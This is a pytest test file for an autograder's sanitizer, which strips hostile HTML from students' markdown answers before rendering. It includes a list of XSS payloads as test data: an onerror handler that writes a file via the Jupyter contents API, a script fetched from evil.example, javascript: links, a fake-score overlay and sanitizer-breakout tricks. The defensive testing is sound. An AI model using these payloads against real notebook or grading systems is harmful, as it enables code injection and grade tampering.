"""Written answers are sanitized before anyone renders them.

Each hostile answer is sanitized, then rendered to HTML by nbconvert's markdown renderer
(what the feedback pages and formgrader use); the resulting HTML may hold only allowlisted
tags, no event handler, no style and no script URL. Honest answers keep their markdown
and math.
"""
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder.sanitize import ATTRIBUTES, TAGS, answer_flags, hostile_markup, sanitize_markdown

HOSTILE = {
    "img_onerror_put": """My derivation.\n\n<img src=x onerror="fetch('/api/contents/pwned.txt', {method: 'PUT',
 headers: {'Content-Type': 'application/json'}, body: JSON.stringify({type: 'file', format: 'text',
 content: 'pwned'})})">""",
    "script": "<script>alert(1)</script>",
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "svg_onload": "<svg onload=alert(1)><circle r=5></circle></svg>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "iframe": "<iframe src=\"javascript:alert(1)\"></iframe>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "a_javascript": "<a href=\"javascript:alert(1)\">click</a>",
    "a_javascript_entities": "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "markdown_link_javascript": "[click me](javascript:alert(document.cookie))",
    "markdown_image_data": "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink_javascript": "<javascript:alert(1)>",
    "body_onload": "<body onload=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "form": "<form action=/api/contents method=post><input name=x><button>go</button></form>",
    "style_overlay": "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white\">"
                     "Score: 3/3</div>",
    "style_tag": "<style>body { display: none }</style>",
    "meta_refresh": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "object": "<object data=\"javascript:alert(1)\"></object>",
    "embed": "<embed src=\"javascript:alert(1)\">",
    "math_breakout": "<a href=\"$\" onclick=\"alert(1)$\">m</a>",
    "escaped_backtick_breakout": "\\`<img src=x onerror=alert(2)>`",
    "code_span_across_paragraphs": "`start\n\n<img src=x onerror=alert(3)>\n\nend`",
    "placeholder_forgery": "BBHKEEP0X <img src=x onerror=alert(4)> $x$",
    "unclosed_fence": "```\n<img src=x onerror=alert(5)>",
    "comment": "<!-- --><img src=x onerror=alert(6)><!-- -->",
    "nested_quotes": "<img src=\"x\" alt='\"' onerror=alert(7)>",
    "base_tag": "<base href=\"javascript:alert(8)//\">",
}


class Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.bad.append(f"tag <{tag}>")
        for name, value in attrs:
            # the renderer adds class (syntax highlighting) and id (headings); the rest must be allowlisted
            if name not in ATTRIBUTES.get(tag, set()) | {"rel", "class", "id"} or name.startswith("on"):
                self.bad.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and value and value.strip().lower().startswith(("javascript", "data", "vbscript")):
                self.bad.append(f"{name}={value[:30]}")


def render(markdown: str) -> str:
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown)


def problems(markdown: str) -> list[str]:
    parser = Collect()
    parser.feed(render(sanitize_markdown(markdown)))
    return parser.bad


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_answer_renders_harmless(name):
    assert problems(HOSTILE[name]) == [], sanitize_markdown(HOSTILE[name])


@pytest.mark.parametrize("name", ["img_onerror_put", "script", "svg_onload", "iframe", "a_javascript",
                                  "markdown_link_javascript", "form", "style_overlay", "math_breakout"])
def test_hostile_answer_is_reported(name):
    assert hostile_markup(HOSTILE[name]), name


HONEST = [
    "The gradient is $\\frac{\\partial J}{\\partial W} = \\delta a^{\\mathsf T}$, since $a < b$ here.",
    "$$\nJ = \\frac{1}{2m}\\sum_i \\lVert a_i - y_i \\rVert^2\n$$",
    "**Bold**, *italic*, `np.sum(x, axis=0)`, a list:\n\n- one\n- two\n\n> a quote\n\n1 < 2 and 3 > 2 & so on.",
    "```python\nif x < 0:\n    y = -x\n```",
    "<b>bold</b> and <sub>i</sub> and <sup>2</sup>",
]


@pytest.mark.parametrize("text", HONEST)
def test_honest_answer_keeps_its_markdown_and_math(text):
    clean = sanitize_markdown(text)
    assert problems(text) == []
    assert hostile_markup(text) == []
    # The rendered text reads the same (math keeps its symbols: '<' becomes TeX's \lt).
    expected = render(text).replace("&lt;", "<")
    assert render(clean).replace("\\lt ", "<").replace("&lt;", "<").replace("\u200b", "") == expected


TOKENS = st.sampled_from(["<", ">", "\"", "'", "`", "$", "$$", "\\", "\n", "\n\n", " ", "x", "=", "(", ")",
                          "[", "]", "img", "script", "svg", "a", "href", "src", "onerror", "onload", "style",
                          "javascript:", "data:", "alert(1)", "/", "!", "-->", "<!--", "&", "#", ";", "```"])


@settings(max_examples=300, deadline=None)
@given(st.lists(TOKENS, max_size=40).map("".join))
def test_no_combination_of_tokens_renders_a_live_element(text):
    assert problems(text) == [], (text, sanitize_markdown(text))


def test_flags_name_the_answer():
    import nbformat

    release = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(
        "YOUR ANSWER HERE", metadata={"nbgrader": {"grade_id": "written_x", "solution": True, "grade": True,
                                                   "points": 3, "schema_version": 3}})])
    student = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(
        HOSTILE["script"], metadata={"nbgrader": {"grade_id": "written_x", "solution": True, "grade": True,
                                                  "points": 3, "schema_version": 3}})])
    flags = answer_flags(release, student)
    assert len(flags) == 1 and "written_x" in flags[0] and "<script" in flags[0]
